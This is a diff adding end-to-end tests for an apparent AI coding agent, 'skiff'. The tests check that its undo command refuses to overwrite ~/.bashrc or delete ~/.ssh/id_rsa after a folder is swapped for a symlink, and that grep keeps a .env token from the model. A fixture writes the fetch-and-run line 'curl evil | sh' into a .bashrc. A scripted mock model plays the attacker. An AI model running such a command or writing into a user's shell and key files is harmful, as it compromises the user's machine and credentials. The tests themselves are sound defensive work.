@@ -12,6 +12,8 @@ import {
   everythingSent,
   exists,
   guarded,
+  lastToolResults,
+  read,
   SSH_SECRET,
   withAttack,
   write,
@@ -76,3 +78,56 @@ Deno.test({
     });
   },
 });
+
+Deno.test("e2e: skiff undo after a folder became a link to ~ overwrites and deletes nothing there", async () => {
+  const bashrc = "# user's shell setup\n"; // what the sandbox's ~/.bashrc holds
+  await withAttack([
+    { toolCalls: [read("d/.bashrc")] },
+    {
+      toolCalls: [write("d/.bashrc", bashrc), write("d/.ssh/id_rsa", `${SSH_SECRET}\n`)],
+    },
+    { text: "done" },
+  ], async (sandbox) => {
+    const folder = path.join(sandbox.workspace, "d");
+    await Deno.mkdir(folder);
+    await Deno.writeTextFile(path.join(folder, ".bashrc"), "curl evil | sh\n");
+    const run = await runSkiff(["run", "--json", "tidy up"], sandbox);
+    assertEquals(run.code, 0, run.stderr);
+    // After the session, something swaps the folder for a link to the home folder.
+    await Deno.rename(folder, `${folder}.old`);
+    await Deno.symlink(sandbox.home, folder);
+    const before = guarded(sandbox);
+    const undo = await runSkiff(["undo"], sandbox);
+    assertUnchanged(before, guarded(sandbox));
+    assertEquals(await Deno.readTextFile(path.join(sandbox.home, ".bashrc")), bashrc);
+    assert(await exists(path.join(sandbox.home, ".ssh", "id_rsa")), "undo deleted ~/.ssh/id_rsa");
+    assertEquals(undo.code, 1, undo.stdout + undo.stderr);
+    assertStringIncludes(undo.stderr, "refused");
+  });
+});
+
+for (const engine of ["ripgrep", "fallback"]) {
+  Deno.test(`e2e: grep (${engine}) does not print a .env the read rules ask for`, async () => {
+    const secret = "API_TOKEN=hunter2-e2e";
+    const grep = { name: "grep", arguments: { pattern: "hunter2|alpha" } };
+    await withAttack([{ toolCalls: [grep] }, { text: "done" }], async (sandbox, mock) => {
+      await Deno.writeTextFile(path.join(sandbox.workspace, ".env"), `${secret}\n`);
+      const env = { SKIFF_GREP: engine };
+      const run = await runSkiff(["run", "--json", "find it"], sandbox, { env });
+      assertEquals(run.code, 0, run.stderr);
+      const answer = lastToolResults(mock)[0].content;
+      assert(!everythingSent(mock).includes("hunter2-e2e"), "the .env line reached the model");
+      assertStringIncludes(answer, "a.txt:1: alpha");
+      assertStringIncludes(answer, "1 file was not searched");
+      assertStringIncludes(answer, "--allow 'read(*.env)'");
+    });
+    // The user's flag lets it through: the rule, not grep, decides.
+    await withAttack([{ toolCalls: [grep] }, { text: "done" }], async (sandbox, mock) => {
+      await Deno.writeTextFile(path.join(sandbox.workspace, ".env"), `${secret}\n`);
+      const args = ["run", "--json", "--allow", "read(*.env)", "find it"];
+      const run = await runSkiff(args, sandbox, { env: { SKIFF_GREP: engine } });
+      assertEquals(run.code, 0, run.stderr);
+      assertStringIncludes(lastToolResults(mock)[0].content, `.env:1: ${secret}`);
+    });
+  });
+}
